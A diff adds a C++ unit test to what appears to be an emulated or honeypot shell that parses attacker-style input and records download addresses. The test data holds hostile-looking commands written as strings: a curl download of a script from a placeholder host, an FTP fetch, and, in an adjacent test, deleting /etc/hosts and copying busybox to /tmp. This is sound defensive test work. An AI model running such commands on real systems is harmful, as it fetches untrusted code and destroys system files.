@@ -135,6 +135,15 @@ TEST_F(ShellTest, RecordsTheAddressOfADownload) {
     EXPECT_EQ(commands_[5].argument, "ftp://192.0.2.7:2121/y");
 }
 
+TEST_F(ShellTest, RecordsTheAddressForAProgramThatIsNotThere) {
+    say("curl -sO http://192.0.2.7/x.sh; /usr/bin/curl ftp://192.0.2.7/y; nothing http:/ here");
+    ASSERT_EQ(commands_.size(), 5U);
+    EXPECT_EQ(commands_[1].verb, "fetch");
+    EXPECT_EQ(commands_[1].argument, "http://192.0.2.7/x.sh");
+    EXPECT_EQ(commands_[3].argument, "ftp://192.0.2.7/y");
+    EXPECT_EQ(commands_[4].verb, "nothing");
+}
+
 TEST_F(ShellTest, RemembersWhatWasWrittenForTheNextVisit) {
     say("echo canary > /tmp/c; chmod 755 /tmp/c; mkdir /var/run/d; cp /bin/busybox /tmp/bb; rm /etc/hosts");
     const std::string memory = shell_.memory();
